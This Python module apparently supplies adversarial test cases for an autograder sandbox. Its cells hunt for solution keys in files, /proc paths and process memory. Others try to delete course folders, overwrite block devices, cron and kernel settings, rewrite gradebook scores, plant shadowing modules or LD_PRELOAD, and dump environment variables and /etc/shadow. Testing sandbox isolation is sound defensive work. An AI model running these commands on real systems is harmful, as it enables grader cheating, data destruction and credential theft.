"""Answers that look for the key, for the gradebook for each other, and that write where they should not."""

from __future__ import annotations

from .attack import COURSE, HONEST, LESSON, OUTSIDE, PROJECT, RIGHT, VALUES, WRONG, Attack

# The search for the key. It wins if it finds one: `stolen(name)` gives the right answer then, and raises
# KeyError otherwise. `searched` is where it looks; `test_searching.py` shows that it finds what is there.
SEARCH = """
import gc, glob, json, os, pathlib, sys, types
NAMES = ("forward_difference", "power_rule", "polynomial_derivative", "product_rule", "quotient_rule",
         "tangent_line", "symbolic_slope", "differentiable_at_zero")
found = {}

def keep(space):
    own = sys.modules["__main__"].__dict__
    for name in NAMES:
        if isinstance(space, dict) and name in space and space is not own and name not in found:
            found[name] = space[name]

def read(text):
    if "BEGIN SOLUTION" not in text: return
    space = {"np": np, "sp": sp}
    for cell in json.loads(text)["cells"]:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in source: exec(source, space)
    keep(space)
"""
IN_FILES = """
def is_of_interest(name):
    return name.endswith((".ipynb", ".db", "exercises.json", ".course-secret")) or "01_derivatives" in name

def search(*folders):
    for folder in folders:
        for where, inner, names in os.walk(folder):
            for name in filter(is_of_interest, names + inner):
                try:
                    read(pathlib.Path(where, name).read_text(errors="replace"))
                except Exception:
                    pass

def guess(*paths):
    for path in paths:
        for form in (path, f"/proc/self/root/{path}", f"/proc/1/root/{path}", f"../../../../../{path}",
                     f"/sandbox/own/../..{path}", f"/tmp/../{path}"):
            try:
                read(open(form, errors="replace").read())
            except Exception:
                pass
"""
IN_MEMORY = """
def search():
    gc.collect()
    for thing in gc.get_objects():
        kind = type(thing)
        if kind is dict: keep(thing)
        elif kind is types.CodeType: look_into(thing)
        elif kind is types.FunctionType: keep({thing.__name__: thing}), look_into(thing.__code__)
        elif kind is str and "BEGIN SOLUTION" in thing and "cell_type" in thing: read(thing)
        elif kind is types.ModuleType: keep(vars(thing))
    for module in list(sys.modules.values()): keep(getattr(module, "__dict__", None))
    frames = [sys._getframe(), *sys._current_frames().values()]
    for frame in frames:
        while frame is not None:
            keep(frame.f_globals), keep(frame.f_locals)
            frame = frame.f_back

def look_into(code):
    for constant in code.co_consts:
        if type(constant) is types.CodeType and constant.co_name in NAMES and constant.co_consts[1:]:
            found.setdefault(constant.co_name, types.FunctionType(constant, {"np": np, "sp": sp}))
"""
IN_RAW_MEMORY = """
import ctypes
def search():
    for line in open("/proc/self/maps"):
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" not in line or end - start > 2**28: continue
        data = ctypes.string_at(start, end - start)
        place = data.find(b'"source": [')
        while place >= 0:
            piece = data[place:place + 4000].decode(errors="replace")
            if "BEGIN " + "SOLUTION" in piece: found.setdefault("raw", piece)
            place = data.find(b'"source": [', place + 1)
"""


def stealing(name: str, search: str, **more) -> Attack:
    """Answers that are right if the search finds the key, and wrong otherwise."""
    answers = {
        each: f"{source}\nif '{each}' in found: {each} = found['{each}']"
        for each, source in WRONG.items()
        if each not in HONEST
    }
    return Attack(name, cell=f"{SEARCH}\n{search}", answers=answers, **more)


def trying(name: str, attempts: str, **more) -> Attack:
    """A cell that tries one thing after another, each by itself; a success is one that changes files."""
    lines = attempts.strip().splitlines()
    source = "import ctypes, os, pathlib, shutil, sqlite3, stat, sys, tempfile\nfor attempt in (\n"
    source += "".join(f"    {line!r},\n" for line in lines)
    source += "):\n    try: exec(attempt)\n    except Exception: pass\n"
    return Attack(name, cell=source, **more)


ATTACKS = (
    stealing("the key looked for in every folder", f"{IN_FILES}\nsearch('/')"),
    stealing(
        "the key looked for where it is",
        f"{IN_FILES}\nguess('{COURSE}/solutions/{LESSON}/{LESSON}.ipynb', "
        f"'{PROJECT}/solutions/{LESSON}/{LESSON}.ipynb', '{COURSE}/submitted/ada/{LESSON}/{LESSON}.ipynb', "
        f"'{COURSE}/autograded/ada/{LESSON}/{LESSON}.ipynb')",
    ),
    stealing("the key looked for in memory", f"{IN_MEMORY}\nsearch()"),
    stealing(
        "the key looked for in raw memory",
        f"{IN_RAW_MEMORY}\nsearch()\n"
        "if found: found = dict(power_rule=lambda n, x: n * x ** (n - 1) if n else 0 * x)",
    ),
    Attack(
        "the key asked of those who called",
        cell=f"{SEARCH}\n{IN_MEMORY}",
        answers={
            name: f"{WRONG[name]}\n_{name} = {name}\ndef {name}(*arguments):\n    search()\n"
            f"    return found.get('{name}', _{name})(*arguments)"
            for name in RIGHT
            if name not in VALUES | HONEST
        },
        slow=True,
    ),
    trying(
        "files written in the course and beside it",
        f"""
pathlib.Path("{OUTSIDE}/canary.txt").write_text("silent")
pathlib.Path("{OUTSIDE}/new.txt").write_text("here")
os.makedirs("{OUTSIDE}/more")
shutil.rmtree("{OUTSIDE}")
shutil.rmtree("{COURSE}")
os.remove("{COURSE}/gradebook.db")
os.chmod("{OUTSIDE}/canary.txt", 0)
os.utime("{OUTSIDE}/canary.txt", (0, 0))
os.symlink("{COURSE}", "here"); pathlib.Path("here/gradebook.db").write_bytes(b"")
os.link("{OUTSIDE}/canary.txt", "canary.txt"); pathlib.Path("canary.txt").write_text("silent")
os.mknod("disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0)); open("disk", "wb").write(bytes(512))
open("/proc/sys/kernel/core_pattern", "w").write("|/bin/true")
open("/proc/self/mem", "r+b").write(b"x")
open("/dev/vda", "r+b").write(bytes(512))
open("/etc/cron.d/later", "w").write("* * * * * root touch {OUTSIDE}/cron")
open(sys.executable, "r+b").write(b"x")
open(np.__file__, "a").write("import os")
open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "w").write("x = 1")
ctypes.CDLL(None).mount(b"{COURSE}", b"/tmp", b"", 4096, b"")
ctypes.CDLL(None).chroot(b"/proc/1/root"); os.listdir("{COURSE}")
os.chdir("/"); pathlib.Path("sandbox/data/new").write_text("x")
""",
    ),
    trying(
        "points written into the gradebook",
        f"""
sqlite3.connect("{COURSE}/gradebook.db").execute("update grade set auto_score = 9").connection.commit()
db = sqlite3.connect("file:{COURSE}/gradebook.db", uri=True); db.execute("delete from grade"); db.commit()
sqlite3.connect("gradebook.db").execute("create table grade (auto_score)").connection.commit()
from nbgrader.api import Gradebook; Gradebook("sqlite:///{COURSE}/gradebook.db").add_student("hacker")
pathlib.Path("{COURSE}/autograded/ada/{LESSON}/grading.json").write_text("[]")
os.makedirs("autograded/ada"); pathlib.Path("grading.json").write_text("[]")
""",
    ),
    trying(
        "modules laid where others will import them",
        """
[pathlib.Path(f"{name}.py").write_text("raise SystemExit") for name in ("numpy", "json", "msgpack", "site")]
[pathlib.Path(folder, "usercustomize.py").write_text("raise SystemExit") for folder in sys.path if folder]
pathlib.Path(os.environ["HOME"], ".ipython").mkdir()
sys.path.insert(0, os.getcwd()); os.environ["PYTHONPATH"] = os.getcwd(); os.environ["LD_PRELOAD"] = "x.so"
sys.path_hooks.insert(0, lambda path: 1/0); sys.meta_path.insert(0, None)
shutil.rmtree("data"); os.rename("/tmp", "/tmp2"); os.chdir("/")
""",
    ),
    trying(
        "a look at everything that may tell something",
        """
print({name: value for name, value in os.environ.items()})
print(sys.argv, sys.orig_argv, os.getcwd(), os.listdir("/"), os.listdir("/proc"))
print(open("/proc/self/environ").read(), open("/proc/1/environ").read(), open("/proc/1/cmdline").read())
print([os.readlink(f"/proc/self/fd/{number}") for number in range(100)])
print(open("/etc/passwd").read(), open("/etc/shadow").read())
print(open("/proc/mounts").read())
""",
    ),
)
